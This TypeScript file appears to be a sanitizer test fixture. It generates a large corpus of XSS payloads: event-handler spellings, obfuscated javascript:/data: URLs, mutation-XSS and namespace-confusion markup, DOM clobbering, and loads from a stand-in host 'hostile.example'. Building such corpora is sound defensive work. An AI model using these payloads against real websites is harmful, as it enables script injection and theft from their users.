/** A call and a host: each vector tries to make one of them happen. */
const ran = 'ranHere(1)'
export const elsewhere = 'hostile.example'

const handlers =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough change click close contextlost contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unload volumechange waiting wheel'.split(
    ' ',
  )

/** Addresses that run code in some browser's reading. */
const running = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  ` javascript:${ran}`,
  `\u0001javascript:${ran}`,
  `java\tscript:${ran}`,
  `java\nscript:${ran}`,
  `java\rscript:${ran}`,
  `java&#x09;script:${ran}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${ran}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${ran}`,
  `javascript&colon;${ran}`,
  `javascript&NewLine;:${ran}`,
  `javascript://%0a${ran}`,
  `javascript:/*--></title></style></textarea></script>*/${ran}`,
  `vbscript:${ran}`,
  `livescript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW5IZXJlKDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>`,
  `view-source:javascript:${ran}`,
  `feed:javascript:${ran}`,
  `blob:javascript:${ran}`,
  `//${elsewhere}/x`,
  `\\\\${elsewhere}\\x`,
  `https:${elsewhere}`,
]

/** Elements that load or follow an address, automatically or when used. */
const places = [
  (address: string) => `<a href="${address}">go</a>`,
  (address: string) => `<a href='${address}' target=_blank>go</a>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=9>go</text></a></svg>`,
  (address: string) => `<math href="${address}"><mi>go</mi></math>`,
  (address: string) => `<form action="${address}"><button>go</button></form>`,
  (address: string) => `<button form=x formaction="${address}">go</button><form id=x></form>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<img src="${address}" srcset="${address} 2x">`,
  (address: string) => `<video poster="${address}"><source src="${address}"></video>`,
  (address: string) => `<link rel=stylesheet href="${address}">`,
  (address: string) => `<base href="${address}">`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<table background="${address}"><td background="${address}">`,
  (address: string) => `<p style="background:url(${address})">go</p>`,
]

/** Markup that parsers read differently: mutation, namespaces, clobbering, unusual ends of elements. */
const strange = [
  `<script>${ran}</script>`,
  `<<script>${ran}//<</script>`,
  `<script\u0000>${ran}</script>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><script href="data:,${ran}"/></svg>`,
  `<svg onload=${ran}>`,
  `<svg><set attributeName=href to=javascript:${ran} /><a><text>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${ran}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${ran}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ran}>">`,
  `<svg><title><style><img title="</style></title><img src=1 onerror=${ran}>"></style></title></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=1 onerror=${ran}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`,
  `<form><form id=x><input form=x onfocus=${ran} autofocus></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
  `<textarea><p title="</textarea><img src=x onerror=${ran}>"></textarea>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${ran}&gt;"></iframe>`,
  `<template><script>${ran}</script><img src=x onerror=${ran}></template>`,
  `<select><template><style><img src=x onerror=${ran}></style></template></select>`,
  `<table><a href="javascript:${ran}"><td>go</table>`,
  `<plaintext><img src=x onerror=${ran}>`,
  `<!--><img src=x onerror=${ran}>-->`,
  `<![CDATA[<img src=x onerror=${ran}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${ran}>`,
  `<style>@import "//${elsewhere}/x.css";</style>`,
  `<style>*{background:url(//${elsewhere}/x)}</style>`,
  `<p style="position:fixed;inset:0;z-index:9999">covers the page</p>`,
  `<img name=getElementById><img name=querySelector>`,
  `<form id=attributes><input name=nodeName><input name=parentNode><img src=x onerror=${ran}></form>`,
  `<a id=root><a id=root name=published>`,
  `<p id=published>{}</p>`,
  `<input autofocus onfocus=${ran}>`,
  `<object type="text/x-scriptlet" data="//${elsewhere}/x"></object>`,
  `<link rel=preload as=script href="//${elsewhere}/x">`,
  `<meta charset=utf-7>+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
  `<a ping="//${elsewhere}/ping" href="/about">go</a>`,
  `<a href="/about" target="_blank" rel="opener">go</a>`,
  `<a href="https://${elsewhere}" target="_top">go</a>`,
  `<custom-element onclick=${ran}>go</custom-element>`,
  `<p popover id=pop onbeforetoggle=${ran}>go</p><button popovertarget=pop>go</button>`,
  `<p data-x="${'x'.repeat(200)}" aria-label="x" accesskey=x onclick=${ran}>go</p>`,
]

/** Spellings of an attribute that a filter may miss. */
const written = [
  (name: string) => `<img src=x on${name}=${ran}>`,
  (name: string) => `<p on${name}="${ran}" tabindex=0 style="animation:x 1s">go</p>`,
  (name: string) => `<svg/on${name.toUpperCase()}=${ran}>`,
  (name: string) => `<b\n\ton${name}\n=\n'${ran}'\n>go</b>`,
]

/** Markup that tries to run, load or open something, by handlers, addresses and parser differences. */
export const hostileHtml = [
  ...handlers.map((name, index) => (written[index % written.length] ?? String)(name)),
  ...running.flatMap((address) => places.map((place) => place(address))),
  ...strange,
]
